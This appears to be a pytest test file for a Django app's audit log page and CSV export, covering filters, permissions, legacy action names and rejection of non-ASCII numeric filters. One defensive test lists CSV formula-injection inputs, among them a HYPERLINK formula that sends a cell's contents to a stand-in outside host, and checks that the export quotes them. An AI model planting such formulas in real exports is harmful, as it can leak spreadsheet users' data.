"""The audit log's page and CSV export: filters, who may read them, their query count, and rows
recorded under an older action name, read under today's."""

from __future__ import annotations

import csv
import io

import pytest
from django.test import Client
from django.urls import reverse
from pytest_django.fixtures import DjangoAssertNumQueries

from review.audit import AuditAction
from review.models import Asset, AuditEvent
from tests.factories import AssetFactory, make_user
from tests.review.helpers import body

pytestmark = pytest.mark.django_db


def test_audit_log_filters_and_exports_csv(reviewer_client: Client, reviewable_assets: list[Asset]) -> None:
    first = reviewable_assets[0]
    reviewer_client.post(reverse("review:approve", args=[first.pk]), {"comment": "fine"})
    html = reviewer_client.get(reverse("review:audit"), {"action": "approved"}).content.decode()
    assert html.count("<tr><td>") == 1 and f"#{first.pk}" in html
    everything = reviewer_client.get(reverse("review:audit")).content.decode()
    assert everything.count("<tr><td>") > 4
    response = reviewer_client.get(reverse("review:audit_csv"), {"actor": "rita"})
    assert response["Content-Type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(body(response).decode())))
    assert rows[0][:4] == ["time", "asset", "action", "actor"]
    assert {(r[1], r[2], r[3], r[7]) for r in rows[1:]} >= {(str(first.pk), "approved", "rita", "fine")}
    assert all(r[3] == "rita" for r in rows[1:])


def test_audit_log_query_count_does_not_grow_with_rows(
    reviewer_client: Client, reviewable_assets: list[Asset], django_assert_max_num_queries: DjangoAssertNumQueries
) -> None:
    with django_assert_max_num_queries(8):
        assert reviewer_client.get(reverse("review:audit")).status_code == 200


def test_a_requester_cannot_read_the_audit_log(client: Client) -> None:
    client.force_login(make_user(roles=("requester",)))
    assert client.get(reverse("review:audit")).status_code == 403


@pytest.fixture
def old_and_new_decisions() -> tuple[Asset, AuditEvent, AuditEvent]:
    """An asset approved under the old action name ("approve") and one under today's."""
    rita = make_user(username="rita")
    old_asset, new_asset = AssetFactory.create_batch(2)
    old = AuditEvent.objects.create(
        asset=old_asset, actor=rita, action="approve", from_state="in_review", to_state="approved"
    )
    new = AuditEvent.objects.create(
        asset=new_asset, actor=rita, action=AuditAction.APPROVED, from_state="in_review", to_state="approved"
    )
    AuditEvent.objects.create(asset=old_asset, actor=rita, action="reject", detail={"reason": "off_brand"})
    return old_asset, old, new


@pytest.mark.parametrize("asked", ["approved", "approve"])
def test_rows_recorded_as_approve_are_found_and_shown_as_approved(
    reviewer_client: Client, old_and_new_decisions: tuple[Asset, AuditEvent, AuditEvent], asked: str
) -> None:
    _, old, new = old_and_new_decisions

    html = reviewer_client.get(reverse("review:audit"), {"action": asked}).content.decode()

    assert html.count("<tr><td>") == 2
    assert f"#{old.asset_id}" in html and f"#{new.asset_id}" in html
    assert html.count("<td>approved</td>") == 2 and "<td>approve</td>" not in html
    assert '<option value="approved" title="Approved" selected>' in html
    assert 'value="approve"' not in html and 'value="reject"' not in html  # the filter offers today's names
    response = reviewer_client.get(reverse("review:audit_csv"), {"action": asked})
    rows = list(csv.reader(io.StringIO(body(response).decode())))
    assert sorted((r[1], r[2]) for r in rows[1:]) == sorted(
        [(str(old.asset_id), "approved"), (str(new.asset_id), "approved")]
    )
    # History is read under today's names, never rewritten.
    assert AuditEvent.objects.get(pk=old.pk).action == "approve"


def test_an_assets_history_shows_its_old_rows_under_todays_names(
    reviewer_client: Client, old_and_new_decisions: tuple[Asset, AuditEvent, AuditEvent]
) -> None:
    old_asset, _, _ = old_and_new_decisions

    html = reviewer_client.get(reverse("review:asset", args=[old_asset.pk])).content.decode()

    assert "<strong>approved</strong>" in html and "<strong>rejected</strong>" in html
    assert "<strong>approve</strong>" not in html and "<strong>reject</strong>" not in html
    rejected = reviewer_client.get(reverse("review:audit_csv"), {"action": "rejected"})
    rows = list(csv.reader(io.StringIO(body(rejected).decode())))
    assert [(r[1], r[2], r[6]) for r in rows[1:]] == [(str(old_asset.pk), "rejected", "off_brand")]


@pytest.mark.parametrize("field", ["serial", "page"])
@pytest.mark.parametrize("value", ["١", "²", "0", "-3", "9" * 19, "1e3"])
def test_a_filter_not_written_in_ascii_digits_is_refused_naming_it(
    reviewer_client: Client, old_and_new_decisions: tuple[Asset, AuditEvent, AuditEvent], field: str, value: str
) -> None:
    response = reviewer_client.get(reverse("review:audit"), {field: value})
    html = response.content.decode()
    assert response.status_code == 400
    assert f"Not understood: {field} " in html and repr(value)[1:-1][:18] in html
    assert "No events match." in html  # not the whole log, as if it were filtered
    csv_response = reviewer_client.get(reverse("review:audit_csv"), {field: value})
    assert csv_response.status_code == 400 and f"{field} " in csv_response.content.decode()


def test_an_arabic_indic_serial_does_not_filter_as_that_serial(
    reviewer_client: Client, old_and_new_decisions: tuple[Asset, AuditEvent, AuditEvent]
) -> None:
    old_asset, _, _ = old_and_new_decisions
    foreign = "".join(chr(0x660 + int(d)) for d in str(old_asset.pk))
    html = reviewer_client.get(reverse("review:audit"), {"serial": foreign}).content.decode()
    assert f"#{old_asset.pk}" not in html
    assert reviewer_client.get(reverse("review:audit"), {"serial": str(old_asset.pk)}).status_code == 200


@pytest.mark.parametrize(
    "typed", ['=HYPERLINK("http://x.example/?"&A1,"ok")', "+1+2", "-2+3", "@SUM(A1:A2)", "\t=1", "\r=1"]
)
def test_text_a_spreadsheet_would_run_as_a_formula_is_exported_quoted(reviewer_client: Client, typed: str) -> None:
    asset = AssetFactory.create()
    actor = make_user(username="@mallory")
    AuditEvent.objects.create(asset=asset, actor=actor, action="rejected", detail={"reason": typed, "comment": typed})
    rows = list(csv.reader(io.StringIO(body(reviewer_client.get(reverse("review:audit_csv"))).decode())))
    (row,) = [r for r in rows[1:] if r[1] == str(asset.pk)]
    assert row[3] == "'@mallory"
    assert row[6] == row[7] == f"'{typed}"


def test_plain_text_and_numbers_are_exported_as_they_are(reviewer_client: Client) -> None:
    asset = AssetFactory.create()
    AuditEvent.objects.create(asset=asset, action="commented", detail={"comment": "too dark; 3-4 stops"})
    rows = list(csv.reader(io.StringIO(body(reviewer_client.get(reverse("review:audit_csv"))).decode())))
    (row,) = [r for r in rows[1:] if r[1] == str(asset.pk)]
    assert row[3] == "pipeline" and row[7] == "too dark; 3-4 stops"
